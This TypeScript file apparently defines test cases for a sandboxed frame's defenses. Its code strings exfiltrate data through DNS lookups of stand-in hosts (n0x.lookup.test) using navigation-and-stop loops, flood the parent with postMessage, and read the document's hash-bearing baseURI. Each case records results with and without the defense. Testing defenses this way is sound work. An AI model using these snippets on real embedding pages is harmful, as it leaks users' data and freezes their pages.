/** What a stranger's program does to get out of its frame. Each attack is run twice: with its defense, and without. */
import type { SourceChange } from './sourceChanges';

export interface FrameAttack {
  /** What the program does, in a few words; unique. */
  readonly name: string;
  /** What a stranger would gain. */
  readonly gain: string;
  /** The program. */
  readonly code: string;
  /** What switches the defense off. */
  readonly without: readonly SourceChange[];
  /** What happens without the defense, and with it. */
  readonly results: { readonly without: string; readonly with: string };
}

const breakoutFile = 'src/frame/host/breakout.ts';

const withoutNavigationWatch: readonly SourceChange[] = [
  {
    file: breakoutFile,
    from: "if (effectiveDirective === 'frame-src') onBreakout('navigation');",
    to: 'void effectiveDirective;',
  },
  { file: 'src/frame/boot/stubs.ts', from: "  define(window, 'stop', () => {});\n", to: '' },
];

/** Names that the program can reach: `n0x.lookup.test`, `n1x.lookup.test`, … */
const nextName = `location.protocol, 'https://n' + turn++ + 'x.lookup.test/'`;

const names = 'Any number of host names, each with data in it, which the browser looks up';

export const navigationAttacks: readonly FrameAttack[] = (
  [
    [
      '`location.href` and `stop()`, 100 times in a row',
      `for (let i = 0; i < 100; i++) { location.href = (${nextName}); stop(); }`,
    ],
    [
      '`location.href` and `stop()` every 20 ms',
      `setInterval(() => { location.href = (${nextName}); stop(); }, 20);`,
    ],
    [
      '`location.replace()` and `stop()` every 20 ms',
      `setInterval(() => { location.replace((${nextName})); stop(); }, 20);`,
    ],
    [
      '`navigation.navigate()` that is overtaken by the next',
      `setInterval(() => { try { navigation.navigate((${nextName})).finished.catch(() => {}); stop(); } catch {} }, 20);`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: names,
  code: `let turn = 0; ${code}`,
  without: withoutNavigationWatch,
  results: {
    without: 'More than 40 names in 3 s; the program goes on',
    with: 'The run ends at the first refusal; the names that were on their way by then, in 3 s fewer than 20, are looked up',
  },
}));

const withoutMessageWatch: readonly SourceChange[] = [
  { file: breakoutFile, from: "      onBreakout('message');\n", to: '' },
];

export const messageAttacks: readonly FrameAttack[] = (
  [
    [
      '`parent.postMessage()` with small messages',
      `for (let i = 0; i < 2000; i++) parent.postMessage(i, '*');`,
    ],
    [
      '`parent.postMessage()` with deep objects',
      `const deep = Array.from({ length: 1000 }, () => ({ a: [{ b: 1 }] }));
       for (let i = 0; i < 50; i++) parent.postMessage(deep, '*');`,
    ],
    [
      '`top.postMessage()` with ports',
      `for (let i = 0; i < 500; i++) top.postMessage(i, '*', [new MessageChannel().port1]);`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: 'A page that stands still: limits count only what comes over the port',
  code: `setInterval(() => { ${code} }, 5);`,
  without: withoutMessageWatch,
  results: {
    without: 'The run goes on, and so do the messages',
    with: 'The run ends at the first message',
  },
}));

const withoutBase: readonly SourceChange[] = [
  {
    file: 'src/frame/host/frame.ts',
    from: "document.baseURI.replace(/#.*$/s, '')",
    to: 'document.baseURI',
  },
];

export const addressAttacks: readonly FrameAttack[] = (
  [
    ['`document.baseURI`', `document.baseURI`],
    [
      '`document.baseURI` after a base of its own was added and removed',
      `(() => { const base = document.createElement('base'); base.href = 'https://x.test/';
        document.head.append(base); base.remove(); return document.baseURI; })()`,
    ],
    ['the base of an element in no document', `document.createElement('a').baseURI`],
    [
      'the address of a link in an SVG',
      `document.createElementNS('http://www.w3.org/2000/svg', 'a').baseURI`,
    ],
  ] as const
).map(([name, code]) => ({
  name,
  gain: 'The address with its hash, in which shared code and searched text stand',
  code: `let found; try { found = ${code}; } catch (error) { found = String(error); } console.log('address ' + found);`,
  without: withoutBase,
  results: { without: 'The address has the hash', with: 'The address ends before the hash' },
}));
